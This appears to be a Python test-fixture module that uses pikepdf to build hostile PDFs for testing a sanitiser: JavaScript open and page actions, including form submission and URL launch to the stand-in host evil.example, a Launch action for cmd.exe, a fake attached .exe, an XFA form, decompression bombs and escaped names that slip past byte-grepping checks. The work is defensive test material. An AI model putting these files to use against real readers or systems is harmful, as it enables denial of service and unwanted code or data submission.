"""Hostile PDFs, built in the test with pikepdf: each carries one kind of active content, or a
decompression bomb, on an otherwise ordinary one-page document."""

from __future__ import annotations

import functools
import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

MiB = 1024 * 1024
PAGE_TEXT = b"0 0 1 rg 72 72 200 100 re f"  # a blue rectangle: the visible content


def _document() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].obj.Contents = pdf.make_stream(PAGE_TEXT)
    return pdf


def _bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True)
    return out.getvalue()


def _javascript(code: str = "app.alert('motcua');") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def plain() -> bytes:
    return _bytes(_document())


def javascript_open_action() -> bytes:
    pdf = _document()
    pdf.Root.OpenAction = pdf.make_indirect(_javascript())
    return _bytes(pdf)


def page_additional_action() -> bytes:
    """JavaScript run when the page opens (/AA /O), plus a link whose action is JavaScript and
    the document-level JavaScript name tree."""
    pdf = _document()
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=_javascript("this.submitForm('https://evil.example/');"))
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 72, 272, 172]),
                    A=_javascript("app.launchURL('https://evil.example/');"),
                )
            )
        ]
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_javascript())]))
    )
    return _bytes(pdf)


def launch_action() -> bytes:
    pdf = _document()
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 72, 272, 172]),
                    A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
                )
            )
        ]
    )
    return _bytes(pdf)


def embedded_file() -> bytes:
    pdf = _document()
    payload = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00 not really a program", mime_type="application/x-msdownload"
    )
    pdf.attachments["hoa-don.exe"] = payload
    return _bytes(pdf)


def xfa_form() -> bytes:
    pdf = _document()
    template = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=template)
    return _bytes(pdf)


def link_to_website() -> bytes:
    """An ordinary web link and a go-to-page OpenAction: not active content, kept as they are."""
    pdf = _document()
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([72, 72, 272, 172]),
                    A=Dictionary(S=Name.URI, URI=String("https://dichvucong.gov.vn/")),
                )
            )
        ]
    )
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return _bytes(pdf)


@functools.cache
def zeros_deflated(mebibytes: int, prefix: bytes = b"") -> bytes:
    """A zlib stream of ``prefix`` then ``mebibytes`` MiB of zeros (~1 KB a MiB). After a full
    flush the compressor starts afresh, so every MiB of zeros compresses to the same block: it
    is compressed once and repeated (nothing near the inflated size is ever allocated)."""
    zero = bytes(MiB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH) if prefix else b""
    block = compressor.compress(zero) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush(zlib.Z_FINISH)
    checksum = zlib.adler32(prefix)
    for _ in range(mebibytes):
        checksum = zlib.adler32(zero, checksum)
    return b"\x78\xda" + head + block * mebibytes + end + checksum.to_bytes(4, "big")


def decompression_bomb(mebibytes: int = 512) -> bytes:
    """A page whose content stream inflates to ``mebibytes`` MiB of zeros."""
    pdf = _document()
    bomb = pikepdf.Stream(pdf, b"")
    bomb.write(zeros_deflated(mebibytes), filter=Name.FlateDecode)
    pdf.pages[0].obj.Contents = Array([pdf.make_indirect(bomb), pdf.make_stream(PAGE_TEXT)])
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, deterministic_id=True)
    return out.getvalue()


def object_stream_bomb(mebibytes: int = 512, *, tree_inside: bool = True) -> bytes:
    """A PDF 1.5 file whose page (and catalog and page tree, ``tree_inside``) sit in an object
    stream followed by ``mebibytes`` MiB of zeros (whitespace to a PDF parser): to read them, a
    reader inflates the whole stream. Written by hand, with its cross-reference stream."""
    tree = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"
    packed_objects = [(1, tree[0]), (2, tree[1]), (3, page)] if tree_inside else [(3, page)]
    body = b""
    offsets = []
    for _number, item in packed_objects:
        offsets.append(len(body))
        body += item + b"\n"
    header = (
        b" ".join(b"%d %d" % (n, o) for (n, _item), o in zip(packed_objects, offsets, strict=True)) + b"\n"
    )
    packed = zeros_deflated(mebibytes, prefix=header + body)
    out = b"%PDF-1.5\n"
    rows: dict[int, tuple[int, int, int]] = {0: (0, 0, 0xFFFF)}
    rows[4] = (1, len(out), 0)
    out += (
        b"4 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(packed_objects), len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    for index, (number, _item) in enumerate(packed_objects):
        rows[number] = (2, 4, index)
    if not tree_inside:
        for number, item in ((1, tree[0]), (2, tree[1])):
            rows[number] = (1, len(out), 0)
            out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
    rows[5] = (1, len(out), 0)
    table = b"".join(
        kind.to_bytes(1, "big") + a.to_bytes(4, "big") + b.to_bytes(2, "big")
        for kind, a, b in (rows[number] for number in range(6))
    )
    xref_at = rows[5][1]
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out


def hand_written(objects: list[bytes]) -> bytes:
    """A classic PDF 1.4 file of the given objects (numbered from 1, object 1 the catalog)."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, item in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref_at)
    return out


def escaped_names() -> bytes:
    """A JavaScript OpenAction spelled with escaped names (``/Open#41ction``, ``/J#61vaScript``,
    ``/J#53``), as a checker that greps the raw bytes would miss it."""
    return hand_written(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
            b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        ]
    )


HOSTILE: dict[str, Callable[[], bytes]] = {
    "javascript_open_action": javascript_open_action,
    "page_additional_action": page_additional_action,
    "launch_action": launch_action,
    "embedded_file": embedded_file,
    "xfa_form": xfa_form,
}
